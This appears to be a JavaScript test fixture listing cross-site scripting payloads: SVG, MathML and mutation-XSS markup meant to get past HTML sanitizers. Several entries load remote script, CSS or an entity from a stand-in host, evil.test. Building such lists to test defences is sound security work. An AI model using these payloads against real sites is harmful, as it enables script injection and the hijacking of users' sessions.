/** SVG elements, which are parsed by other rules than HTML. */
const SVG = [
  '<svg onload=hit()>',
  '<svg/onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><script>&#104;it()</script></svg>',
  '<svg><script href=data:,hit() />',
  '<svg><script xlink:href=//evil.test/a.js />',
  '<svg><animate onbegin=hit() attributeName=x>',
  '<svg><set onbegin=hit() attributeName=x>',
  '<svg><discard onbegin=hit()>',
  '<svg><a><animate attributeName=href values=javascript:hit() /><text>x</text></a>',
  '<svg><a xlink:href=javascript:hit()><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=hit()/>#x" />',
  '<svg><image href=x onerror=hit()>',
  '<svg><foreignObject><iframe onload=hit()></iframe></foreignObject></svg>',
  '<svg><style>@import "//evil.test/a.css"</style></svg>',
  '<svg><desc><![CDATA[</desc><script>hit()</script>]]></svg>',
  '<svg><title><img src=x onerror=hit()></title></svg>',
  '<svg><feImage href=//evil.test/a /></svg>',
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="hit()"/>',
]

const MATH = [
  '<math href=javascript:hit()>x</math>',
  '<math><mi xlink:href=javascript:hit()>x</mi></math>',
  '<math><maction actiontype=statusline xlink:href=javascript:hit()>x</maction></math>',
  '<math><annotation-xml encoding=text/html><script>hit()</script></annotation-xml></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=hit()></style>',
  '<math><mtext><img src=x onerror=hit()></mtext></math>',
]

/** Markup that one parser reads as text and another as elements (mutation XSS). */
const MUTATIONS = [
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<noembed><img title="</noembed><img src=x onerror=hit()>"></noembed>',
  '<noframes><p id="</noframes><img src=x onerror=hit()>"></noframes>',
  '<xmp><p title="</xmp><svg onload=hit()>">',
  '<textarea><img title="</textarea><img src=x onerror=hit()>"></textarea>',
  '<title><a id="</title><img src=x onerror=hit()>"></a></title>',
  '<plaintext><img src=x onerror=hit()>',
  '<listing>&lt;img src=x onerror=hit()&gt;</listing>',
  '<template><script>hit()</script></template>',
  '<div><template shadowrootmode=open><script>hit()</script></template></div>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>',
  '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
  '<math></br><style><a title="</style><img src=x onerror=hit()>">',
  '<select><option><style></option></select><img src=x onerror=hit()></style>',
  '<table><caption><svg><script>hit()</script></caption></table>',
  '<!--<img src="--><img src=x onerror=hit()>">',
  '<!--><script>hit()</script>-->',
  '<!---><script>hit()</script>-->',
  '<!--!--!><img src=x onerror=hit()>-->',
  '<![CDATA[<img src=x onerror=hit()>]]>',
  '<?xml-stylesheet href="javascript:hit()"?>',
  '<?php ?><script>hit()</script>',
  "<%<!--'%><script>hit()</script -->",
  '<!DOCTYPE x [<!ENTITY y SYSTEM "//evil.test">]>&y;',
  '</p><script>hit()</script>',
  '</div></div></main><script>hit()</script>',
  '</body></html><script>hit()</script>',
  '<comment><img src="</comment><img src=x onerror=hit()>">',
]

/** Hostile markup for parsers of other namespaces. */
export const NAMESPACES = { SVG, MATH, MUTATIONS }
